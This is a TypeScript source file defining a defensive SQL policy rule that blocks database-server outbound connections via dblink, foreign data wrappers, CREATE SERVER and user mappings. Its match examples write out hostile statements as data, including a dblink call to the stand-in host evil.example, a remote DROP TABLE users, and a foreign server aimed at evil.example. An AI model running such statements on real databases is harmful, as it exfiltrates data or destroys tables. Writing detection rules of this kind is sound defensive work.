import { defineRule, type RuleContext, type RuleMatch } from '../rule.js';
import { code, effectsOf, origin, uniqueMatches } from './support.js';

export type NoNetworkAccessParams = Record<string, never>;

const HINT = 'the database server may not open connections for you: query the other system from your side';

export const noNetworkAccess = defineRule({
  id: 'no-network-access',
  summary: 'Blocks connections from the database server to elsewhere: dblink, foreign data wrappers, CREATE SERVER and user mappings',
  rationale:
    '`dblink` and foreign data wrappers make the database server connect out — to another database, or to any host the server can reach. ' +
    'That is a channel to ship data out past every proxy, and a way to run statements elsewhere under the server\'s identity and credentials.',
  solution: 'Query the other system from your side, or ask the administrators for a foreign table set up and reviewed for the purpose.',
  defaultAction: 'deny',
  paramsSchema: { type: 'object', additionalProperties: false, properties: {} },
  defaults: {} as NoNetworkAccessParams,
  examples: {
    match: [
      { sql: "SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int)" },
      { sql: "SELECT dblink_exec('dbname=other', 'DROP TABLE users')" },
      { sql: "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')" },
      { sql: "CREATE USER MAPPING FOR CURRENT_USER SERVER remote OPTIONS (user 'x', password 'y')" },
      { sql: 'IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO staging' },
    ],
    noMatch: [
      { sql: 'SELECT * FROM users' },
      { sql: "SELECT 'dblink'" },
    ],
  },
  check({ request }: RuleContext<NoNetworkAccessParams>): RuleMatch[] {
    const matches: RuleMatch[] = [];
    for (const effect of effectsOf(request.statement, 'external')) {
      if (effect.channel !== 'network' && effect.channel !== 'foreign-data') continue;
      const what = effect.function !== undefined ? `calls ${code(`${effect.function}()`)}, which connects from the database server to elsewhere` : effect.channel === 'network' ? 'opens a connection from the database server' : 'sets up or uses a foreign data connection';
      const target = effect.target === undefined || effect.function !== undefined ? '' : ` (${code(effect.target)})`;
      matches.push({ message: `the statement ${what}${target}${origin(effect)}`, hint: HINT });
    }
    for (const effect of effectsOf(request.statement, 'function')) {
      if (effect.class === 'network') matches.push({ message: `the statement calls ${code(`${effect.name}()`)}, which connects from the database server to elsewhere${origin(effect)}`, hint: HINT });
    }
    return uniqueMatches(matches);
  },
});
